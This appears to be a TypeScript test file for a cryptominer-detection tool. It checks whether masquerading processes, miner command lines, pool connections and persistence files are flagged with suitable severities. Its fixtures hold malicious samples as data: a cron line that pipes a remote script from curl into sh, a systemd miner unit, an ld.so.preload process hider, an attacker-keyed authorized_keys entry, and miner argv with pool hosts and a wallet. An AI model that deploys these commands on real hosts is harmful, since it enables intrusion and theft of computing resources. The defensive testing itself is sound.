import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Finding } from '../../core/finding.ts';
import { analyzeHost } from './registry.ts';
import { processInfo, snapshot } from './snapshot-fixture.ts';

const WALLET =
  '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

function on(findings: Finding[], pid: number): Finding | undefined {
  return findings.find((f) => f.process?.pid === pid);
}
function ids(f: Finding | undefined): string[] {
  return ((f?.evidence['signals'] as { id: string }[]) ?? []).map((s) => s.id);
}

test('a deleted kswapd0 binary burning CPU is critical', () => {
  const s = snapshot({
    processes: [
      processInfo({
        pid: 100,
        name: 'kswapd0',
        argv: ['kswapd0'],
        exe: '/tmp/.x/kswapd0',
        exeDeleted: true,
        packaged: undefined,
        cpuCores: 1,
        cpuSeries: [1, 0.99, 1, 1, 1],
      }),
    ],
  });
  const f = on(analyzeHost(s), 100);
  assert.equal(f?.severity, 'critical');
  assert.equal(f?.rule.id, 'deminer.process.masquerade');
  assert.ok(ids(f).includes('cpu.sustained'));
  assert.ok(f?.threat.technique.includes('T1496'));
});

test('ordinary busy programs stay below high: a compiler, a browser, a database, a test runner', () => {
  const s = snapshot({
    processes: [
      processInfo({
        pid: 1,
        name: 'cc1plus',
        exe: '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus',
        cpuCores: 1,
        cpuSeries: [1, 1, 0.98, 1, 1],
      }),
      processInfo({
        pid: 2,
        name: 'chromium',
        exe: '/usr/lib/chromium/chromium',
        cpuCores: 0.4,
        cpuSeries: [0.1, 0.9, 0.2, 0.6, 0.2],
      }),
      processInfo({
        pid: 3,
        name: 'postgres',
        exe: '/usr/lib/postgresql/15/bin/postgres',
        argv: ['postgres: checkpointer'],
        cpuCores: 0.02,
      }),
      processInfo({
        pid: 4,
        name: 'node',
        exe: '/usr/bin/node',
        argv: ['node', '--test'],
        cpuCores: 0.9,
        cpuSeries: [0.9, 1, 0.8, 0.95, 0.9],
      }),
      processInfo({ pid: 5, name: 'kworker/0:1', kernelThread: true, argv: [] }),
      processInfo({
        pid: 6,
        name: 'python3',
        exe: '/usr/bin/python3.11',
        argv: ['/usr/bin/python3', '/opt/app/run.py'],
      }),
      processInfo({
        pid: 7,
        name: 'run.py',
        exe: '/usr/bin/python3.11',
        argv: ['/usr/bin/python3', '/opt/app/run.py'],
      }),
      processInfo({ pid: 8, name: 'node', exe: '/root/.nvm/versions/node/v20/bin/node', packaged: false }),
    ],
  });
  const findings = analyzeHost(s);
  const high = findings.filter((f) => f.severity === 'high' || f.severity === 'critical');
  assert.deepEqual(
    high.map((f) => f.message),
    [],
  );
  assert.equal(on(findings, 1)?.severity, 'low', 'a lone busy compiler is reported low at most');
  assert.equal(on(findings, 5), undefined, 'real kernel threads are never flagged');
  assert.equal(on(findings, 7), undefined, 'interpreted scripts carry their script name');
  assert.equal(on(findings, 8), undefined, 'toolchain dot-dirs are not hidden-directory masquerades');
});

test('miner command lines: stratum URL is high on its own; XMRig flags without "stratum" are caught', () => {
  const s = snapshot({
    processes: [
      processInfo({
        pid: 10,
        name: 'xmrig',
        exe: '/opt/x/xmrig',
        argv: ['./xmrig', '-o', 'stratum+tcp://pool.supportxmr.com:3333', '-u', 'x'],
      }),
      processInfo({
        pid: 11,
        name: 'sysupdate',
        exe: '/usr/local/bin/sysupdate',
        argv: ['sysupdate', '--donate-level=1', '-a', 'rx/0', '-o', 'pool.example.org:443'],
      }),
      processInfo({ pid: 12, name: 'worker', exe: '/usr/local/bin/worker', argv: ['worker', '-u', WALLET] }),
      processInfo({
        pid: 13,
        name: 'ffmpeg',
        exe: '/usr/bin/ffmpeg',
        argv: ['ffmpeg', '-a', 'aac', '-o', 'out.mp4'],
      }),
    ],
  });
  const findings = analyzeHost(s);
  assert.equal(on(findings, 10)?.severity, 'critical', 'stratum URL + known miner binary name');
  assert.equal(on(findings, 10)?.rule.id, 'deminer.process.miner');
  assert.ok(['high', 'critical'].includes(on(findings, 11)?.severity ?? ''), on(findings, 11)?.message);
  assert.ok(ids(on(findings, 12)).includes('miner.wallet'));
  assert.equal(on(findings, 13), undefined, 'unrelated -a/-o options are not miner flags');
});

test('miner config files beside a binary are read and checked for pools and wallets', () => {
  const config = JSON.stringify({
    'donate-level': 1,
    'donate-level ': 0,
    cpu: { enabled: true },
    pools: [{ url: 'gulf.moneroocean.stream:10128', user: WALLET }],
  });
  const s = snapshot({
    processes: [
      processInfo({
        pid: 20,
        name: 'dbus-daemon-x',
        exe: '/var/lib/.cache/dbus-daemon-x',
        argv: ['dbus-daemon-x'],
        cwd: '/',
        packaged: false,
      }),
    ],
    files: [{ path: '/var/lib/.cache/config.json', kind: 'miner-config', text: config, truncated: false }],
  });
  const f = on(analyzeHost(s), 20);
  assert.ok(ids(f).includes('miner.config_file'), ids(f).join(','));
  assert.ok(['high', 'critical'].includes(f?.severity ?? ''));
  assert.deepEqual(
    (f?.evidence['signals'] as { evidence?: { pools?: string[] } }[]).find((x) => x.evidence?.pools)?.evidence
      ?.pools,
    ['gulf.moneroocean.stream:10128'],
  );
});

test('throttled duty cycle: steady 25 % is flagged, bursty 25 % is not', () => {
  const s = snapshot({
    processes: [
      processInfo({
        pid: 30,
        name: 'a',
        exe: '/usr/bin/a',
        cpuCores: 0.25,
        cpuSeries: [0.25, 0.26, 0.24, 0.25, 0.25, 0.26],
      }),
      processInfo({
        pid: 31,
        name: 'b',
        exe: '/usr/bin/b',
        cpuCores: 0.25,
        cpuSeries: [0.0, 0.7, 0.05, 0.4, 0.0, 0.35],
      }),
    ],
  });
  const f = analyzeHost(s);
  assert.ok(ids(on(f, 30)).includes('cpu.throttled'));
  assert.equal(on(f, 31), undefined);
});

test('pool ports, listed pools via intel, and connection bursts', () => {
  const base = {
    protocol: 'tcp' as const,
    family: 4 as const,
    localIp: '10.0.0.5',
    uid: 0,
    netns: 'net:[1]',
  };
  const s = snapshot({
    windowMs: 10_000,
    processes: [
      processInfo({ pid: 40, name: 'x', exe: '/usr/bin/x' }),
      processInfo({ pid: 41, name: 'y', exe: '/usr/bin/y' }),
      processInfo({ pid: 42, name: 'z', exe: '/usr/bin/z' }),
    ],
    sockets: [
      {
        ...base,
        localPort: 50000,
        remoteIp: '198.51.100.7',
        remotePort: 3333,
        state: 'ESTABLISHED',
        inode: '1',
        pid: 40,
      },
      {
        ...base,
        localPort: 50001,
        remoteIp: '203.0.113.9',
        remotePort: 443,
        state: 'ESTABLISHED',
        inode: '2',
        pid: 41,
      },
      { ...base, localPort: 3333, remoteIp: '0.0.0.0', remotePort: 0, state: 'LISTEN', inode: '3', pid: 42 },
    ],
    newOutbound: { 42: 12 },
  });
  const intel = {
    matchIp: (ip: string) =>
      ip === '203.0.113.9' ? { indicator: '203.0.113.9', source: 'test-feed' } : undefined,
  };
  const f = analyzeHost(s, { poolIntel: intel });
  assert.ok(ids(on(f, 40)).includes('network.pool_port'));
  assert.equal(on(f, 40)?.destination?.port, 3333);
  assert.ok(ids(on(f, 41)).includes('network.listed_pool'));
  assert.ok(ids(on(f, 42)).includes('network.connection_burst'), '12 new connections in 10 s is 72 a minute');
  assert.ok(!ids(on(f, 42)).includes('network.pool_port'), 'a listening socket is not a pool connection');
});

test('persistence: cron, systemd, ld.so.preload, authorized_keys, shell start files', () => {
  const s = snapshot({
    files: [
      {
        path: '/etc/cron.d/sys',
        kind: 'cron',
        text: '# comment\n* * * * * root curl -fsSL http://203.0.113.5/x.sh | sh\n',
        truncated: false,
      },
      {
        path: '/etc/systemd/system/sysupdate.service',
        kind: 'systemd',
        text: '[Service]\nExecStart=/usr/local/bin/sysupdate -o stratum+tcp://198.51.100.1:3333\nDescription=/tmp/x\n',
        truncated: false,
      },
      {
        path: '/etc/ld.so.preload',
        kind: 'ld-preload',
        text: '/usr/local/lib/libprocesshider.so\n',
        truncated: false,
      },
      {
        path: '/root/.ssh/authorized_keys',
        kind: 'authorized-keys',
        text: 'ssh-ed25519 AAAAC3Nza user@host\ncommand="/dev/shm/.x/run" ssh-rsa AAAAB3 attacker\n',
        truncated: false,
      },
      {
        path: '/root/.bashrc',
        kind: 'shell-rc',
        text: 'export PATH=/root/.cargo/bin:$PATH\nalias ll="ls -l"\n',
        truncated: false,
      },
      {
        path: '/etc/init.d/x11-common',
        kind: 'init-script',
        text: 'mkdir /tmp/.ICE-unix\n',
        truncated: false,
        package: 'x11-common',
      },
    ],
  });
  const f = analyzeHost(s);
  const by = (id: string) => f.filter((x) => x.rule.id === id);
  assert.equal(by('deminer.persistence.cron').length, 1);
  assert.ok(by('deminer.persistence.cron')[0]!.threat.technique.includes('T1105'));
  assert.equal(by('deminer.persistence.systemd')[0]?.severity, 'high', 'a unit that runs a stratum miner');
  assert.equal(by('deminer.persistence.systemd')[0]?.evidence['line'], 2, 'only Exec lines count');
  assert.equal(by('deminer.persistence.ld_preload').length, 1);
  assert.equal(by('deminer.persistence.authorized_keys').length, 1);
  assert.equal(by('deminer.persistence.authorized_keys')[0]?.evidence['line'], 2);
  assert.equal(
    by('deminer.persistence.shell_rc').length,
    0,
    'PATH assignments and aliases are not persistence',
  );
  assert.equal(by('deminer.persistence.init_script').length, 0, 'temp paths in packaged scripts are normal');
});

test('persistence that restarts a high-severity process is high itself', () => {
  const s = snapshot({
    processes: [
      processInfo({
        pid: 9,
        name: 'kswapd0',
        exe: '/tmp/.x/kswapd0',
        exeDeleted: true,
        packaged: undefined,
        cpuCores: 1,
        cpuSeries: [1, 1, 1, 1],
      }),
    ],
    files: [
      {
        path: '/etc/cron.d/x',
        kind: 'cron',
        text: '*/5 * * * * root /tmp/.x/kswapd0 >/dev/null 2>&1\n',
        truncated: false,
      },
    ],
  });
  const f = analyzeHost(s);
  const cron = f.find((x) => x.rule.id === 'deminer.persistence.cron');
  assert.equal(cron?.severity, 'high', cron?.message);
  assert.deepEqual(cron?.evidence['running_pids'], [9]);
  assert.ok(ids(on(f, 9)).includes('persistence.restarts_process'));
  const alone = analyzeHost(snapshot({ files: s.files }));
  assert.equal(
    alone[0]?.severity,
    'medium',
    'the same line with nothing running it is a lead to check, not an alarm',
  );
});

test('fingerprints are stable across scans and differ per subject', () => {
  const mk = (pid: number) =>
    snapshot({
      processes: [
        processInfo({ pid, name: 'kswapd0', exe: '/tmp/kswapd0', sha256: 'ab'.repeat(32), packaged: false }),
      ],
    });
  const a = analyzeHost(mk(100))[0]!;
  const b = analyzeHost(mk(200))[0]!;
  assert.equal(a.fingerprint, b.fingerprint, 'the same binary after a restart is the same finding');
  assert.notEqual(a.id, b.id);
  const c = analyzeHost(
    snapshot({
      processes: [processInfo({ pid: 1, name: 'kswapd0', exe: '/tmp/kswapd0', sha256: 'cd'.repeat(32) })],
    }),
  )[0]!;
  assert.notEqual(a.fingerprint, c.fingerprint);
});
